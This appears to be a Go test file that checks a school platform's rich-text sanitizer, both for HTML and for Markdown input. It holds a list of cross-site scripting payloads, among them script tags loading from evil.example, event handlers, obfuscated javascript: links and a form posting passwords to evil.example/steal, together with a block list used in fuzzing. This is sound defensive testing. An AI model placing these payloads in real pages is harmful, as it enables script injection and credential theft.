package richtext_test

import (
	"strings"
	"testing"

	"github.com/cartable-ent/cartable/modules/richtext"
)

// attacks are what a hostile author writes, as HTML (what the policy must stop whatever
// rendered it) and through Markdown (what people type). None of bad may survive.
var attacks = []struct {
	name, in string
	bad      []string
}{
	{"script", `<p>a</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`, []string{"<script", "alert(1)", "evil.example"}},
	{"event handler", `<img src="/x.png" onerror="alert(1)"><p onclick="alert(2)" onmouseover=alert(3)>a</p><body onload=alert(4)>`, []string{"onerror", "onclick", "onmouseover", "onload", "alert"}},
	{"javascript: link", `<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(2)">b</a><a href="jav&#x09;ascript:alert(3)">c</a><a href="java&#0000115;cript:alert(4)">d</a>`, []string{"javascript", "alert"}},
	{"data: URL", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><img src="data:image/svg+xml;base64,PHN2Zz4=">`, []string{"data:", "base64"}},
	{"vbscript: link", `<a href="vbscript:msgbox(1)">a</a>`, []string{"vbscript"}},
	{"svg", `<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg><img src="/logo.svg#x"><svg/onload=alert(4)>`, []string{"<svg", "onload", "alert", "xlink"}},
	{"iframe", `<iframe src="https://evil.example"></iframe><frame src=x><object data="x.swf"></object><embed src="x.swf">`, []string{"<iframe", "<frame", "<object", "<embed", "evil.example"}},
	{"style", `<style>body{display:none}</style><p style="background:url(javascript:alert(1))">a</p><link rel=stylesheet href=//evil.example/s.css>`, []string{"<style", "style=", "display:none", "<link", "evil.example"}},
	{"form", `<form action="https://evil.example/steal"><input name=password type=password><button formaction=x>ok</button><textarea>t</textarea><select><option>o</option></select></form>`, []string{"<form", "<input", "<button", "<textarea", "<select", "formaction", "evil.example"}},
	{"meta and base", `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`, []string{"<meta", "<base", "evil.example"}},
	{"foreign image", `<img src="https://tracker.example/pixel.gif"><img src="//tracker.example/p.gif"><img src="/\tracker.example/p.gif"><img src="http:/tracker.example">`, []string{"<img", "tracker.example"}},
	{"attribute break-out", `<a href="/x" title="a&quot; onmouseover=&quot;alert(1)">a</a><img alt="x&quot;onerror=alert(1)" src="/a.png">`, []string{`" onmouseover`, `"onerror`, "title="}},
}

// TestSanitize: the policy strips scripts, event handlers, dangerous addresses, SVG,
// frames, styles and forms from HTML whatever wrote it.
func TestSanitize(t *testing.T) {
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			out := strings.ToLower(richtext.Sanitize(a.in))
			for _, bad := range a.bad {
				if strings.Contains(out, strings.ToLower(bad)) {
					t.Errorf("%q survives: %s", bad, out)
				}
			}
			if safe := strings.ToLower(string(richtext.Safe(a.in))); safe != out {
				t.Errorf("Safe = %s, want %s", safe, out)
			}
		})
	}
}

// TestMarkdownAttacks: the same, typed as Markdown (raw HTML, links and images of
// Markdown's own syntax).
func TestMarkdownAttacks(t *testing.T) {
	md := []struct{ in, bad string }{
		{"[lien](javascript:alert(1))", "javascript"},
		{"[lien](JAVASCRIPT:alert(1))", "javascript"},
		{"[lien](data:text/html,<script>alert(1)</script>)", "data:"},
		{"![img](javascript:alert(1))", "javascript"},
		{"![img](https://tracker.example/p.gif)", "tracker.example"},
		{"![img](//tracker.example/p.gif)", "tracker.example"},
		{"<https://x.example/\" onclick=\"alert(1)>", `onclick="`},
		{"[a](/x \"t\\\" onmouseover=alert(1)\")", "onmouseover=alert"},
		{"```html\n<script>alert(1)</script>\n```", "<script"},
	}
	for _, a := range attacks {
		md = append(md, struct{ in, bad string }{"Texte\n\n" + a.in + "\n\nSuite", a.bad[0]})
	}
	for _, c := range md {
		out, err := richtext.Markdown(c.in)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(strings.ToLower(out), strings.ToLower(c.bad)) {
			t.Errorf("%q: %q survives in %s", c.in, c.bad, out)
		}
	}
}

// TestMarkdownKeeps: prose, tables, links with their rel, and images of our own host.
func TestMarkdownKeeps(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"**gras** et *italique* ~~barré~~", "<p><strong>gras</strong> et <em>italique</em> <del>barré</del></p>\n"},
		{"# Titre\n\n- un\n- deux", "<h1>Titre</h1>\n<ul>\n<li>un</li>\n<li>deux</li>\n</ul>\n"},
		{"3. trois\n4. quatre", "<ol start=\"3\">\n<li>trois</li>\n<li>quatre</li>\n</ol>\n"},
		{"[programme](https://example.org/p)", `<p><a href="https://example.org/p" rel="nofollow noreferrer noopener" target="_blank">programme</a></p>` + "\n"},
		{"[séance](/cahier/seances/1)", `<p><a href="/cahier/seances/1" rel="nofollow noreferrer">séance</a></p>` + "\n"},
		{"[écrire](mailto:cpe@example.org)", `<p><a href="mailto:cpe@example.org" rel="nofollow noreferrer">écrire</a></p>` + "\n"},
		{"![La classe au musée](/actualites/pieces/abc)", `<p><img src="/actualites/pieces/abc" alt="La classe au musée"></p>` + "\n"},
		{"| a | b |\n|---|--:|\n| 1 | 2 |", "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n"},
		{"<b onclick=x>b</b>", "<p>b</p>\n"},
		{"[x](javascript:alert(1))", "<p>x</p>\n"},
	} {
		got, err := richtext.Markdown(c.in)
		if err != nil || got != c.want {
			t.Errorf("Markdown(%q) = %q, %v; want %q", c.in, got, err, c.want)
		}
	}
}

// TestText: plain text is escaped whole, with its paragraphs and line breaks.
func TestText(t *testing.T) {
	got := richtext.Text("Bonjour,\r\nP1 <b>sera</b> absent.\n\n\n<script>alert(1)</script> & co\n")
	want := "<p>Bonjour,<br>P1 &lt;b&gt;sera&lt;/b&gt; absent.</p>\n<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; co</p>\n"
	if got != want {
		t.Errorf("Text = %q, want %q", got, want)
	}
	if richtext.Sanitize(got) != got {
		t.Errorf("the policy changes plain text's HTML: %q", richtext.Sanitize(got))
	}
}

// FuzzMarkdown: whatever is typed, no script, event attribute, style or foreign address
// comes out.
//
//	go test -run '^$' -fuzz FuzzMarkdown -fuzztime 30s ./modules/richtext/
func FuzzMarkdown(f *testing.F) {
	for _, a := range attacks {
		f.Add(a.in)
	}
	f.Add("[a](javascript:alert(1)) ![b](//x.example/p.gif)")
	f.Fuzz(func(t *testing.T, src string) {
		out, err := richtext.Markdown(src)
		if err != nil {
			t.Fatal(err)
		}
		low := strings.ToLower(out)
		for _, bad := range []string{"<script", "<style", "<iframe", "<svg", "<form", " style=", "javascript:", "data:", `src="//`} {
			if strings.Contains(low, bad) {
				t.Fatalf("%q renders %q with %q", src, out, bad)
			}
		}
		if strings.Contains(low, " on") && strings.Contains(low, "=\"") {
			for _, attr := range []string{" onerror=", " onload=", " onclick=", " onmouseover="} {
				if strings.Contains(low, attr) {
					t.Fatalf("%q renders %q with %q", src, out, attr)
				}
			}
		}
	})
}
